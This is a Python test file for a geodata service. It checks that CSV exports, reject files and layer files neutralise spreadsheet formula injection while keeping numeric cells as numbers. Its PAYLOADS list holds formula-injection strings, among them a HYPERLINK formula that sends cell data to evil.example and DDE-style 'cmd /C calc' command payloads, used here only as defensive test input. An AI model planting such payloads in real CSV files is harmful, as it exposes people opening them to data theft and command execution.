"""Every CSV the service writes neutralises spreadsheet formulas (OWASP): text cells starting with
= + - @ tab or CR get a leading quote; numeric columns and plain numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pytest
import shapely
from sqlalchemy import text

from geodata.csvsafe import TRIGGERS, safe_frame, safe_text
from geodata.export import export
from geodata.exports_grid import write_layer
from geodata.importers import run_import

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def assert_no_formula(path) -> list[list[str]]:
    """Every cell of the CSV at ``path`` is safe: none starts a formula unless it is a plain number."""
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
    for row in rows:
        for cell in row:
            assert safe_text(cell) == cell, f"formula cell {cell!r} in {path.name}"
    return rows


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_get_a_quote(payload):
    assert safe_text(payload) == "'" + payload


@pytest.mark.parametrize("value", ["-12.5", "+8613812341234", "1e3", "-.5", "张三", "", "a=b", "'=x"])
def test_plain_numbers_and_text_are_left_alone(value):
    assert safe_text(value) == value


def test_safe_frame_touches_text_columns_only():
    df = pd.DataFrame({"name": ["=1+1", None, "李四"], "balance": [-12.5, 3.0, -1.0], "n": [-1, 2, 3]})
    out = safe_frame(df)
    assert out["name"].tolist()[0] == "'=1+1" and pd.isna(out["name"].tolist()[1])
    assert out["balance"].tolist() == [-12.5, 3.0, -1.0] and out["n"].dtype == df["n"].dtype
    assert df["name"].tolist()[0] == "=1+1"  # the input is not changed


def test_copy_csv_export_neutralises_text_not_numbers(engine, tmp_path):
    """geodata.export (COPY ... TO STDOUT): a customer named by a formula, with a negative balance."""
    lines = ["customer_id,name,segment"] + [
        f'CX{i},"{p.replace(chr(34), chr(34) * 2)}",{"@seg" if i == 0 else "普通"}' for i, p in enumerate(PAYLOADS)]
    (tmp_path / "cu.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    s = run_import(engine, kind="customers", path=tmp_path / "cu.csv", user="u", rejects_dir=tmp_path)
    assert s["counts"]["inserted"] == len(PAYLOADS), s
    with engine.begin() as c:
        c.execute(text("UPDATE customer SET deposit_balance = -12.5 WHERE customer_id = 'CX0'"))
    export(engine, kind="customers", path=tmp_path / "back.csv")
    rows = assert_no_formula(tmp_path / "back.csv")
    header, body = rows[0], [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
    by_id = {r["customer_id"]: r for r in body if r["customer_id"].startswith("CX")}
    # Stored names are the payloads (pyarrow strips nothing; the reader keeps tabs and CRs inside quotes).
    with engine.connect() as c:
        stored = dict(c.execute(text("SELECT customer_id, name FROM customer WHERE customer_id LIKE 'CX%'")).all())
    for cid, name in stored.items():
        assert by_id[cid]["name"] == "'" + name
    assert by_id["CX0"]["segment"] == "'@seg"
    assert float(by_id["CX0"]["deposit_balance"]) == -12.5  # a number, no quote
    assert "deposit_balance" in header


def test_layer_csv_neutralises_text_not_numbers(tmp_path):
    """geodata.exports_grid.write_layer (cells, territories, gaps as CSV)."""
    gdf = gpd.GeoDataFrame({"rm_code": ["R1", "R2"], "rm_name": [PAYLOADS[0], "王五"], "deposit": [-5.25, 7.0],
                            "reason_zh": ["@SUM(A1)", None]},
                           geometry=[shapely.box(106, 38, 106.1, 38.1), shapely.box(106.1, 38, 106.2, 38.1)], crs=4326)
    path = write_layer(gdf, tmp_path / "t.csv", fmt="csv", layer="territories")
    rows = assert_no_formula(path)
    body = [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
    assert body[0]["rm_name"] == "'" + PAYLOADS[0] and body[0]["reason_zh"] == "'@SUM(A1)"
    assert float(body[0]["deposit"]) == -5.25 and body[1]["rm_name"] == "王五"


def test_rejects_csv_neutralises_every_text_cell(engine, tmp_path):
    """The rejects file: the rejected value, the reason and the original row are written safely."""
    (tmp_path / "bad.csv").write_text(
        'customer_id,name,deposit_balance,=HDR\nCR1,"=HYPERLINK(""http://x"")",@SUM(A1),+cmd\n'
        "CR2,李四,-12.5,x\n", encoding="utf-8")
    s = run_import(engine, kind="customers", path=tmp_path / "bad.csv", user="u", rejects_dir=tmp_path)
    assert s["counts"]["rejected"] == 2, s  # CR1's balance is not a number, CR2's is negative
    rows = assert_no_formula(Path(s["rejects_path"]))
    header = rows[0]
    bad = {r[header.index("customer_id")]: dict(zip(header, r, strict=True)) for r in rows[1:]}
    assert header[-1] == "'=HDR"
    assert bad["CR1"]["value"] == "'@SUM(A1)" and bad["CR1"]["name"] == "'=HYPERLINK(\"http://x\")"
    assert bad["CR1"]["'=HDR"] == "'+cmd" and bad["CR1"]["line"] == "2"
    assert bad["CR2"]["value"] == "-12.5" and bad["CR2"]["deposit_balance"] == "-12.5"  # a number stays one


def test_triggers_are_owasps():
    assert set(TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}
